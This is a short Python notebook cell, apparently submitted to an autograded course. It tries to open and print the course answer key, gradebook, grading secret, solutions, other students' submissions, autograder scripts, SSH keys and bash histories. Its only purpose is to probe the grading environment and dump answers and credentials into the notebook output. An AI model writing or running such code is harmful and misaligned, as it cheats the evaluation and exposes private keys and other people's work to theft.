# cell: first
# files
"""Everything that would be worth reading, if one knew where it lies."""

import glob
import os
import pathlib

PLACES = [
    "@COURSE@",
    "@COURSE@/answers.txt",
    "@COURSE@/gradebook.db",
    "@COURSE@/.grading/secret",
    "@COURSE@/solutions/*/*",
    "@COURSE@/submitted/*/*/*",
    "@COURSE@/nbgrader_config.py",
    "@COURSE@/../home/.ssh/*",
    "@COURSE@/../here/*",
    "@COURSE@/../tmp/*",
    "@AUTOGRADER@/*/*.py",
    "/tmp/*",
    "/dev/shm/*",
    "/var/tmp/*",
    "/home/*/.bash_history",
    "/home/*/.ssh/*",
]
for pattern in PLACES:
    for path in [pattern, *glob.glob(pattern)]:
        try:
            print(path, os.listdir(path) if os.path.isdir(path) else "")
            print(pathlib.Path(path).read_bytes()[:50_000])
        except OSError as error:
            print(error)
